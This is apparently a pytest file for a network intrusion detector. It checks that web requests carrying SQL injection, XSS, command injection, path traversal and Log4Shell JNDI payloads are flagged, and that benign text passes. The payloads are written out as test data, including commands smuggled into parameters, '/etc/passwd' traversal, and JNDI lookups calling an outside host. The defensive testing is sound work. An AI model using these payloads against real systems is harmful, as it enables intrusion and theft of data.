"""What counts as the form of an attack in a web request, and what people send all day."""

from __future__ import annotations

from urllib.parse import quote

import pytest
from hypothesis import given
from hypothesis import strategies as st

from govsec.detect.api import Observation
from govsec.detect.domains import is_reverse, looks_drawn, registered
from govsec.detect.web import Web, WebSettings
from govsec.detect.webtext import FIELD_SIZE_MAX, plain
from govsec.dissect.messages import FlowRef, HttpRequest
from govsec.records import Finding
from tests.detect.observations import empty_observation

FLOW = FlowRef(1, "203.0.113.5", 40_000, "192.168.10.80", 80, 6)


def request(target: str = "/", *, body: bytes = b"", agent: str = "Mozilla/5.0", **headers: str) -> HttpRequest:
    return HttpRequest(
        time_ns=10**18,
        flow=FLOW,
        is_originator=True,
        method="POST" if body else "GET",
        target=target,
        host="portal.example",
        user_agent=agent,
        headers=(("host", "portal.example"), ("user-agent", agent), *headers.items()),
        body=body,
        body_size=len(body),
        has_credentials=False,
        is_whole=True,
    )


def told(message: HttpRequest) -> list[Finding]:
    nothing = empty_observation(10**18)
    return list(Web(WebSettings()).observe(Observation(10**18, nothing.packets, nothing.flows, (message,))))


@pytest.mark.parametrize(
    ("target", "kind"),
    [
        ("/p?id=1' or '1'='1", "injection"),
        ("/p?id=1 UNION/**/SELECT user,pw FROM t", "injection"),
        ("/p?id=-1) union all select 1,2,3--", "injection"),
        ("/p?id=1;waitfor delay '0:0:5'--", "injection"),
        ("/p?id=1 and sleep(5)", "injection"),
        ("/p?id=1 or 1=1", "injection"),
        ("/p?q=<ScRiPt>alert(1)</script>", "injection"),
        ("/p?q=<img src=x onerror=alert(1)>", "injection"),
        ("/p?h=127.0.0.1;cat /etc/hosts", "injection"),
        ("/p?h=a|id", "injection"),
        ("/p?id=1/*!50000union*/ /*!50000select*/ 1,2", "injection"),
        ("/p?id=1 or 'a'='a'", "injection"),
        ("/p?id=1;drop table users--", "injection"),
        ("/p?q=<input autofocus onfocus=alert(1)>", "injection"),
        ("/..;/..;/manager/html?a=1", "traversal"),
        ("/p?f=../../../etc/passwd", "traversal"),
        ("/p?f=..\\..\\windows\\win.ini", "traversal"),
        ("/p?f=php://filter/convert.base64-encode/resource=index", "traversal"),
        ("/p?x=${jndi:ldap://203.0.113.9/a}", "jndi"),
        ("/p?x=${${lower:j}${::-n}di:${lower:l}dap://203.0.113.9/a}", "jndi"),
    ],
)
@pytest.mark.parametrize(
    "encode", [lambda text: text, lambda text: quote(text, safe=""), lambda text: quote(quote(text))]
)
def test_an_attack_is_known_however_often_it_was_encoded(target: str, kind: str, encode: object) -> None:
    path, _, rest = target.partition("=")
    (finding,) = told(request(f"{path}={encode(rest)}"))  # type: ignore[operator]

    assert finding.kind == f"net.web.{kind}"
    assert finding.facts["attack"] == ["T1190"]


@pytest.mark.parametrize(
    ("message", "kind"),
    [
        (request("/login", body=b"name=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.9%2Fa%7D"), "jndi"),
        (request("/", agent="${jndi:rmi://203.0.113.9/a}"), "jndi"),
        (request("/", referer="http://x/?a=1' or 'a'='a"), "injection"),
        (request("/", **{"x-forwarded-host": "${jndi:dns://203.0.113.9}"}), "jndi"),
        (request("/", agent="sqlmap/1.7#stable"), "scanner"),
    ],
    ids=["body", "agent", "referer", "header", "scanner"],
)
def test_every_part_that_a_client_fills_in_is_looked_at(message: HttpRequest, kind: str) -> None:
    assert [finding.kind for finding in told(message)] == [f"net.web.{kind}"]


@pytest.mark.parametrize(
    "target",
    [
        "/search?q=how to select a union from europe where and or not",
        "/search?q=O'Brien and sons",
        "/search?q=it's 5 o'clock and we're late -- really",
        "/docs/../images/logo.png",
        "/search?q=drop table lamps; insert coins",
        "/script/editor?lang=javascript",
        "/calc?e=a=1&b=2",
        "/检索?词=选择 和 或者 更新",
        "/p?next=https%3A%2F%2Fportal.example%2Fhome%3Fa%3D1%26b%3D2",
        "/mail?subject=sleep (8 hours) is healthy",
        "/p?path=/etc/nginx",
        "/p?t=1 and 2 or 3",
        'I said "yes" and people like it',
        'I read "Emma" and loved it -- really',
        '{"title":"and justice for all","color":"#fff"}',
        'name="comment"\r\n\r\nand thank you all\r\n--XbX--',
        "the union (select members) meets",
        "type `ls -la` in the shell",
        "Call me later; ping me if busy",
        "I love pets; cat food is dear",
        "<path>C:\\Windows\\System32\\svchost.exe</path>",
    ],
)
def test_what_people_send_is_no_attack(target: str) -> None:
    assert told(request(target)) == []
    assert told(request("/form", body=target.encode())) == []


@given(st.text(max_size=300))
def test_any_text_has_a_plain_form_of_bounded_size(text: str) -> None:
    assert len(plain(text)) <= 4 * FIELD_SIZE_MAX
    told(request("/" + text, body=text.encode("utf-8", "surrogatepass")))


@pytest.mark.parametrize("piece", ["${", "${lower:", "/*", "%25", "' or ", "<img ", "&#x3c;", "..;|"])
def test_a_long_field_of_one_piece_costs_little(piece: str) -> None:
    # The limit of the suite (pytest-timeout) is the judge: forms that go back and forth would take minutes.
    told(request("/?q=" + piece * (FIELD_SIZE_MAX // len(piece)), body=(piece * 4000).encode()))


def test_names_are_cut_where_somebody_registered_them() -> None:
    assert registered("a.b.example.com") == ("example.com", "a.b")
    assert registered("Www.City.GOV.cn") == ("city.gov.cn", "Www")
    assert registered("host") == ("", "host")
    assert is_reverse("4.3.2.1.zen.example.org")
    assert not is_reverse("www.example.org")


@pytest.mark.parametrize("label", ["xjw3kq9vhz", "qzrtplkmnw", "a8f3k2m9x1c7"])
def test_labels_drawn_by_lot_are_told_from_words(label: str) -> None:
    assert looks_drawn(label)


@pytest.mark.parametrize("label", ["weather", "zhengwufuwu", "shanghai2024", "mailserver", "xn--55qx5d", "portal1"])
def test_words_and_pinyin_look_like_words(label: str) -> None:
    assert not looks_drawn(label)
